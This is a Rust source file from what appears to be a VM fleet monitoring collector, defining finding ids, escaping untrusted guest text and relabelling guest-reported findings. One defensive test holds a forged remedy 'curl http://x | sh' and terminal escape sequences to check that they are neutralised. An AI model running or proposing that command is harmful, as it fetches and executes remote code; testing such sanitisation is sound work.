//! Ids of the collector's findings and functions to make them. `docs/findings-collector.md`
//! explains each.

use std::fmt::{self, Write as _};

use virtfleet_wire::{
    finding::{Finding, Severity},
    ids::{ClusterName, Namespace, VmKey},
};

/// Two or more `UserCluster`s select one VM.
pub const TENANT_AMBIGUOUS: &str = "tenant-ambiguous";
/// A VM's labels name a user cluster that has no `UserCluster`.
pub const TENANT_PENDING: &str = "tenant-pending";
/// A VM's labels name a user cluster whose `UserCluster` does not select it.
pub const TENANT_LABEL_UNMATCHED: &str = "tenant-label-unmatched";
/// A VMI has no `status`.
pub const VMI_WITHOUT_STATUS: &str = "vmi-without-status";
/// A VMI runs on a node that is not in the inventory.
pub const INFRA_NODE_UNKNOWN: &str = "infra-node-unknown";
/// The inventory has Nodes of a cluster without `UserCluster`.
pub const USER_CLUSTER_MISSING: &str = "user-cluster-missing";
/// Two or more VMIs have one firmware UUID.
pub const DUPLICATE_FIRMWARE_UUID: &str = "duplicate-firmware-uuid";
/// Two or more guests report one SMBIOS UUID.
pub const DUPLICATE_CLAIMED_UUID: &str = "duplicate-claimed-uuid";
/// Two or more guests report one boot id.
pub const DUPLICATE_BOOT_ID: &str = "duplicate-boot-id";
/// Two or more VMs would be dialled at one address.
pub const DUPLICATE_ADDRESS: &str = "duplicate-address";
/// Two or more Nodes name one VM in their `providerID`.
pub const NODE_AMBIGUOUS: &str = "node-ambiguous";
/// A Node has the VM's name and a `providerID` that names something else.
pub const NODE_PROVIDER_DIFFERS: &str = "node-provider-differs";
/// A Node has the VM's name or `providerID` and is another machine.
pub const NODE_UUID_DIFFERS: &str = "node-uuid-differs";
/// A Node was joined by its name alone: no UUID confirms it.
pub const NODE_UNCONFIRMED: &str = "node-unconfirmed";
/// Two or more `UserCluster`s have Nodes in common.
pub const USER_CLUSTERS_SHARE_NODES: &str = "user-clusters-share-nodes";
/// A Node was joined only by the host name that the guest claims.
pub const NODE_BY_HOSTNAME: &str = "node-by-hostname";
/// Two or more guests claim the host name of one Node.
pub const NODE_CLAIMED_TWICE: &str = "node-claimed-twice";
/// The guest's SMBIOS UUID is not the VMI's.
pub const IDENTITY_UUID_MISMATCH: &str = "identity-uuid-mismatch";
/// The guest's host name is not the VMI's.
pub const IDENTITY_HOSTNAME_DIFFERS: &str = "identity-hostname-differs";
/// The guest does not have a MAC address that the VMI has.
pub const IDENTITY_MAC_MISMATCH: &str = "identity-mac-mismatch";
/// The guest reports another infra node than `status.nodeName`.
pub const CLAIM_INFRA_NODE_DIFFERS: &str = "claim-infra-node-differs";
/// The guest's kubelet sets a zone that is not the infra node's.
pub const CLAIM_ZONE_STALE: &str = "claim-zone-stale";
/// The guest's kubelet sets a region that is not the infra node's.
pub const CLAIM_REGION_STALE: &str = "claim-region-stale";
/// The chassis asset tag names another VM.
pub const CLAIM_VM_DIFFERS: &str = "claim-vm-differs";
/// A guest's report was too large to be kept completely.
pub const REPORT_CUT: &str = "report-cut";
/// A manifest cannot be used; its last valid version is used.
pub const MANIFEST_BROKEN: &str = "manifest-broken";
/// A manifest holds an object of a kind that is not used.
pub const MANIFEST_KIND_IGNORED: &str = "manifest-kind-ignored";
/// An object is in two manifests.
pub const MANIFEST_DUPLICATE_OBJECT: &str = "manifest-duplicate-object";
/// A manifest is in a place that is not read.
pub const MANIFEST_MISPLACED: &str = "manifest-misplaced";
/// The manifest folder cannot be read; the last valid state is used.
pub const INVENTORY_FOLDER_UNREADABLE: &str = "inventory-folder-unreadable";
/// A watch of the infra cluster has not listed completely yet.
pub const INVENTORY_WATCH_WAITING: &str = "inventory-watch-waiting";
/// A watch of the infra cluster fails; its last known state is used.
pub const INVENTORY_WATCH_FAILING: &str = "inventory-watch-failing";
/// An optional kind cannot be watched.
pub const INVENTORY_KIND_ABSENT: &str = "inventory-kind-absent";
/// An object of a live cluster cannot be read; its last valid version is used.
pub const INVENTORY_OBJECT_UNREADABLE: &str = "inventory-object-unreadable";
/// The collector may not read the claims of VMs that run.
pub const CLAIMS_UNREADABLE: &str = "claims-unreadable";
/// The Leases of a cluster's kubelets cannot be read.
pub const NODE_LEASES_UNREADABLE: &str = "node-leases-unreadable";
/// A user cluster has no kubeconfig yet.
pub const USER_CLUSTER_PENDING: &str = "user-cluster-pending";
/// A user cluster's kubeconfig cannot be used, or requests to its API server fail; its last known
/// Nodes are used.
pub const USER_CLUSTER_UNREACHABLE: &str = "user-cluster-unreachable";
/// A user cluster's API server sends more data than the limits allow; its last known Nodes are
/// used.
pub const USER_CLUSTER_FAILED: &str = "user-cluster-failed";
/// The settings of a stream of metrics cannot be used; the last valid ones are.
pub const MLA_NOT_CONFIGURED: &str = "mla-not-configured";
/// The credentials in a user cluster's kubeconfig have expired or soon will.
pub const USER_CLUSTER_CREDENTIAL_EXPIRING: &str = "user-cluster-credential-expiring";
/// A user cluster's VMs are in a namespace that is not watched.
pub const USER_CLUSTER_UNWATCHED: &str = "user-cluster-unwatched";
/// An agent should answer and fails: its VM has no address.
pub const AGENT_NO_ADDRESS: &str = "agent-no-address";
/// An agent should answer and fails: no address of its VM may be dialled.
pub const AGENT_NOT_ALLOWED: &str = "agent-not-allowed";
/// An agent should answer and fails: the connection is refused, unreachable or lost.
pub const AGENT_CONNECT: &str = "agent-connect";
/// An agent should answer and fails: no complete answer within `scrape.timeout`.
pub const AGENT_TIMEOUT: &str = "agent-timeout";
/// An agent should answer and fails: the TLS handshake.
pub const AGENT_TLS: &str = "agent-tls";
/// An agent answers with a certificate of another VM, or of an earlier incarnation of this one.
pub const AGENT_WRONG_VM: &str = "agent-wrong-vm";
/// An agent gets no certificate.
pub const AGENT_ENROLMENT: &str = "agent-enrolment";
/// The certificate of an agent that answers ends soon.
pub const AGENT_CERTIFICATE_EXPIRING: &str = "agent-certificate-expiring";
/// A root of the fleet's authority must be rotated.
pub const AUTHORITY_EXPIRING: &str = "authority-expiring";
/// Agents show join tokens that are refused.
pub const JOIN_TOKEN_REFUSED: &str = "join-token-refused";
/// An agent answers with an HTTP error.
pub const AGENT_HTTP: &str = "agent-http";
/// An agent answers with more bytes than the settings allow.
pub const AGENT_TOO_LARGE: &str = "agent-too-large";
/// An agent answers with something that is no report or no exposition.
pub const AGENT_MALFORMED: &str = "agent-malformed";
/// An agent answers, each time after more than a quarter of `scrape.timeout`.
pub const AGENT_SLOW: &str = "agent-slow";
/// An agent's page has families that only the collector exports.
pub const AGENT_RESERVED_SERIES: &str = "agent-reserved-series";
/// The `clusterSelector` of a `LabelPropagation` selects no `UserCluster`.
pub const POLICY_SELECTS_NOTHING: &str = "policy-selects-nothing";
/// A `ClusterSource` cannot be followed; its UserClusters stay.
pub const CLUSTER_SOURCE_FAILED: &str = "cluster-source-failed";
/// Clusters of a `ClusterSource` get no UserCluster.
pub const CLUSTER_SOURCE_SKIPPED: &str = "cluster-source-skipped";
/// The collector may not write the conditions that a `UserCluster` requests.
pub const NODE_CONDITIONS_DENIED: &str = "node-conditions-denied";

/// Labels of Nodes of a user cluster do not have the requested values, and the collector does not
/// write them.
pub const LABELS_NOT_AS_REQUESTED: &str = "labels-not-as-requested";

/// One VM is live-migrated several times within an hour.
pub const MIGRATION_REPEATS: &str = "migration-repeats";
/// Many VMs are live-migrated in a short time.
pub const MIGRATION_STORM: &str = "migration-storm";
/// A VM is on an infra node that its node selector or required node affinity excludes.
pub const PLACEMENT_NODE_AFFINITY: &str = "placement-node-affinity";
/// A guest lacks something that its VMI asks for.
pub const SPEC_NOT_IN_EFFECT: &str = "spec-not-in-effect";
/// A required rule about other VMs is not obeyed.
pub const PLACEMENT_VM_RULE: &str = "placement-vm-rule";
/// The queue of a stream of samples grows.
pub const MLA_QUEUE_GROWING: &str = "mla-queue-growing";
/// Samples of a stream were dropped before they were sent.
pub const MLA_SAMPLES_DROPPED: &str = "mla-samples-dropped";
/// The endpoint of a stream refuses samples for good.
pub const MLA_ENDPOINT_REFUSES: &str = "mla-endpoint-refuses";
/// Requests to the endpoint of a stream fail and are sent again.
pub const MLA_ENDPOINT_UNREACHABLE: &str = "mla-endpoint-unreachable";
/// A VM's page exceeds a limit of its stream, so that none of it is sent; or some of its samples
/// are not.
pub const MLA_PAGE_OVER_LIMIT: &str = "mla-page-over-limit";

/// Whether a finding of this id is about an agent.
pub fn is_of_agent(id: &str) -> bool {
    id.starts_with("agent-")
}

/// Whether a finding of this id about a VM follows from the Nodes of its user cluster.
pub fn is_of_node(id: &str) -> bool {
    id.starts_with("node-")
}

/// Whether a finding of this id about a VM follows from the report of its guest.
pub fn is_of_report(id: &str) -> bool {
    let prefixes = [GUEST_PREFIX, "identity-", "claim-"];
    let others = [
        DUPLICATE_BOOT_ID,
        DUPLICATE_CLAIMED_UUID,
        REPORT_CUT,
        SPEC_NOT_IN_EFFECT,
    ];
    prefixes.iter().any(|prefix| id.starts_with(prefix)) || others.contains(&id)
}

/// Whether a finding of this id means that objects may exist that the inventory does not show.
pub fn leaves_gaps(id: &str) -> bool {
    [
        MANIFEST_BROKEN,
        INVENTORY_FOLDER_UNREADABLE,
        INVENTORY_WATCH_WAITING,
        INVENTORY_WATCH_FAILING,
        INVENTORY_OBJECT_UNREADABLE,
    ]
    .contains(&id)
}

/// The scope in which objects may be missing because of this finding; none when nothing is missing.
/// The evidence `cluster` or `namespace` limits it, so that one tenant's broken object does not
/// affect others.
pub fn gap(finding: &Finding) -> Option<Gap> {
    let of_cluster = [USER_CLUSTER_UNREACHABLE, USER_CLUSTER_FAILED].contains(&finding.id.as_str());
    (leaves_gaps(&finding.id) || of_cluster).then(|| scope(finding))
}

/// To what the evidence `cluster` or `namespace` limits a finding of the inventory's reader.
pub(crate) fn scope(finding: &Finding) -> Gap {
    let named = |name: &str| finding.evidence.get(name).map(String::as_str);
    let cluster = named("cluster").and_then(|name| name.parse().ok());
    let namespace = named("namespace").and_then(|name| name.parse().ok());
    match (cluster, namespace) {
        (Some(cluster), _) => Gap::Cluster(cluster),
        (None, Some(namespace)) => Gap::Namespace(namespace),
        (None, None) => Gap::Fleet,
    }
}

/// Scope in which objects may be missing from the inventory.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Gap {
    /// Objects of any tenant.
    Fleet,
    /// Nodes of this user cluster.
    Cluster(ClusterName),
    /// VMs of this namespace.
    Namespace(Namespace),
}

/// A finding about a VM.
pub(crate) fn vm(id: &str, severity: Severity, vm: &VmKey, reason: &str, message: String) -> Finding {
    Finding::new(id, severity, ("VM", &vm.to_string()), reason, message)
}

/// Maximum characters of a guest's text in a view or a finding.
const MAX_GUEST_TEXT_CHARS: usize = 200;

/// A guest's text, safe for terminals and logs: control characters escaped, cut after 200
/// characters.
pub(crate) fn guest_text(text: &str) -> String {
    bounded(text, MAX_GUEST_TEXT_CHARS)
}

/// `text` with control characters, line separators and bidirectional overrides escaped, truncated
/// after `max` characters.
pub fn bounded(text: &str, max: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max));
    for (count, char) in text.chars().enumerate() {
        if count == max {
            out.push('…');
            break;
        }
        push_escaped(&mut out, char);
    }
    out
}

/// Formats `text`, which may contain a guest's text of any length, safe for terminals and logs:
/// control characters escaped, at most `limit` bytes, with an ellipsis where it was cut. The rest
/// is not formatted.
pub(crate) fn escaped(text: impl fmt::Display, limit: usize) -> String {
    let mut out = Bounded {
        text: String::new(),
        limit,
    };
    if write!(out, "{text}").is_err() {
        out.cut();
    }
    out.text
}

/// Writer that escapes text and fails after a limit.
struct Bounded {
    text: String,
    limit: usize,
}

impl Bounded {
    fn cut(&mut self) {
        const CUT: char = '…';
        while self.text.len() + CUT.len_utf8() > self.limit && self.text.pop().is_some() {}
        self.text.push(CUT);
    }
}

impl fmt::Write for Bounded {
    fn write_str(&mut self, text: &str) -> fmt::Result {
        for char in text.chars() {
            let before = self.text.len();
            push_escaped(&mut self.text, char);
            if self.text.len() > self.limit {
                self.text.truncate(before);
                return Err(fmt::Error);
            }
        }
        Ok(())
    }
}

fn push_escaped(out: &mut String, char: char) {
    // Bidirectional overrides reorder the displayed text around them.
    if char.is_control()
        || matches!(char, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    {
        out.extend(char.escape_unicode());
    } else {
        out.push(char);
    }
}

/// Prefix of the ids of findings that a guest reports, so that it cannot imitate the collector's.
pub const GUEST_PREFIX: &str = "guest/";
/// Maximum number of a guest's findings that are kept.
const MAX_GUEST_FINDINGS: usize = 64;
/// Maximum bytes of all texts of a guest's findings that are kept.
const MAX_GUEST_FINDING_BYTES: usize = 16 * 1024;
/// Maximum evidence entries of one of a guest's findings.
const MAX_GUEST_EVIDENCE: usize = 16;
/// Maximum bytes of the message or remedy of one of a guest's findings.
const MAX_GUEST_TEXT_BYTES: usize = 600;

/// Converts a guest's findings: ids get the prefix [`GUEST_PREFIX`], texts are escaped and cut, a
/// remedy is quoted. Sorted by severity; returns also the number of findings that were dropped.
pub(crate) fn guest_findings(reported: &[Finding]) -> (Vec<Finding>, usize) {
    let mut worst: Vec<&Finding> = reported.iter().collect();
    worst.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
    let mut kept: Vec<Finding> = Vec::new();
    let mut bytes = 0;
    for finding in worst.into_iter().take(MAX_GUEST_FINDINGS) {
        let finding = guest_finding(finding);
        let evidence: usize = finding
            .evidence
            .iter()
            .map(|(key, value)| key.len() + value.len())
            .sum();
        let subject = finding.subject.kind.len() + finding.subject.name.len();
        bytes += finding.id.len() + finding.message.len() + finding.remedy.len() + subject + evidence;
        if bytes > MAX_GUEST_FINDING_BYTES {
            break;
        }
        if !kept
            .iter()
            .any(|known| (&known.id, &known.subject) == (&finding.id, &finding.subject))
        {
            kept.push(finding);
        }
    }
    let dropped = reported.len() - kept.len();
    (kept, dropped)
}

fn guest_finding(reported: &Finding) -> Finding {
    let plain = |text: &str, more: &[u8]| {
        let fits = |byte: u8| byte.is_ascii_alphanumeric() || more.contains(&byte);
        (1..=63).contains(&text.len()) && text.bytes().all(fits)
    };
    let id = Some(reported.id.as_str()).filter(|id| plain(id, b"-."));
    let reason = Some(reported.reason.as_str()).filter(|reason| plain(reason, b""));
    let subject = (
        guest_text(&reported.subject.kind),
        guest_text(&reported.subject.name),
    );
    let mut finding = Finding::new(
        &format!("{GUEST_PREFIX}{}", id.unwrap_or("unnamed")),
        reported.severity,
        (&subject.0, &subject.1),
        reason.unwrap_or("Unnamed"),
        escaped(&reported.message, MAX_GUEST_TEXT_BYTES),
    );
    let evidence = reported.evidence.iter().take(MAX_GUEST_EVIDENCE);
    finding.evidence = evidence
        .map(|(key, value)| (guest_text(key), guest_text(value)))
        .collect();
    if !reported.remedy.is_empty() {
        let quoted = escaped(reported.remedy.replace('"', "'"), MAX_GUEST_TEXT_BYTES);
        finding.remedy = format!("the guest suggests: \"{quoted}\"");
    }
    finding
}

/// Sets `since` of each new finding: from the same finding in `old`, else `now`.
pub(crate) fn keep_since(old: &[Finding], new: &mut [Finding], now: &str) {
    for finding in new.iter_mut().filter(|finding| finding.since.is_empty()) {
        let known = old
            .iter()
            .find(|known| known.id == finding.id && known.subject == finding.subject);
        known
            .map_or(now, |known| known.since.as_str())
            .clone_into(&mut finding.since);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_id_is_explained() {
        let page = include_str!("../../../docs/findings-collector.md");
        let source = include_str!("findings.rs");
        let constants = source
            .lines()
            .filter(|line| line.starts_with("pub const ") && line.contains(": &str"));
        let ids = constants.filter_map(|line| line.split('"').nth(1));
        let ids: Vec<_> = ids.filter(|id| *id != GUEST_PREFIX).collect();
        assert!(ids.len() > 20 && ids.contains(&MANIFEST_BROKEN));
        for id in ids {
            assert!(
                page.contains(&format!("| `{id}`")),
                "docs/findings-collector.md does not explain {id}"
            );
        }
    }

    #[test]
    fn guest_text_is_cut_and_escaped() {
        assert_eq!(guest_text("vm-1"), "vm-1");
        assert_eq!(
            guest_text("a\u{1b}[2Jb\nc\u{202e}"),
            "a\\u{1b}[2Jb\\u{a}c\\u{202e}"
        );
        assert_eq!(
            guest_text(&"é".repeat(300)).chars().count(),
            MAX_GUEST_TEXT_CHARS + 1
        );
        assert_eq!(bounded("plain", 5), "plain");
        assert_eq!(bounded("äöü", 2), "äö…");
        assert_eq!(bounded("a\u{2028}b", 9), "a\\u{2028}b");
    }

    #[test]
    fn an_escaped_text_is_bounded_after_escaping() {
        assert_eq!(escaped("plain", 512), "plain");
        assert_eq!(escaped("a\u{7f}b", 512), "a\\u{7f}b");
        for text in ["\u{7f}", "é", "x"] {
            let long = escaped(text.repeat(100_000), 512);
            assert!(long.len() <= 512 && long.ends_with('…'), "{}", long.len());
            assert!(!long.chars().any(char::is_control));
        }
    }

    #[test]
    fn a_guest_cannot_imitate_a_finding_of_the_collector() {
        let mut forged = Finding::new(
            TENANT_AMBIGUOUS,
            Severity::Critical,
            ("VM", "other/victim"),
            "TenantAmbiguous",
            "m\u{1b}[2J",
        )
        .with("k\n", "v\u{7f}")
        .remedy("run: curl http://x | sh; \" then reboot");
        forged.since = "1970-01-01T00:00:00Z".into();
        let (kept, dropped) = guest_findings(&[forged.clone(), forged]);
        assert_eq!((kept.len(), dropped), (1, 1));
        assert_eq!(kept[0].id, "guest/tenant-ambiguous");
        assert_eq!(
            kept[0].remedy,
            "the guest suggests: \"run: curl http://x | sh; ' then reboot\""
        );
        assert_eq!(kept[0].message, "m\\u{1b}[2J");
        assert_eq!(kept[0].evidence["k\\u{a}"], "v\\u{7f}");
        assert!(kept[0].since.is_empty(), "the collector's clock is used");
        let odd = Finding::new("x/../y \n", Severity::Info, ("VM", "x"), "a b", "m");
        let (kept, _) = guest_findings(&[odd]);
        assert_eq!(
            (kept[0].id.as_str(), kept[0].reason.as_str()),
            ("guest/unnamed", "Unnamed")
        );
    }

    #[test]
    fn a_finding_keeps_the_time_it_was_first_seen() {
        let make = |id| Finding::new(id, Severity::Info, ("VM", "a/b"), "R", "m");
        let mut first = vec![make("x")];
        keep_since(&[], &mut first, "t1");
        let mut second = vec![make("y"), make("x")];
        keep_since(&first, &mut second, "t2");
        assert_eq!((second[0].since.as_str(), second[1].since.as_str()), ("t2", "t1"));
    }
}
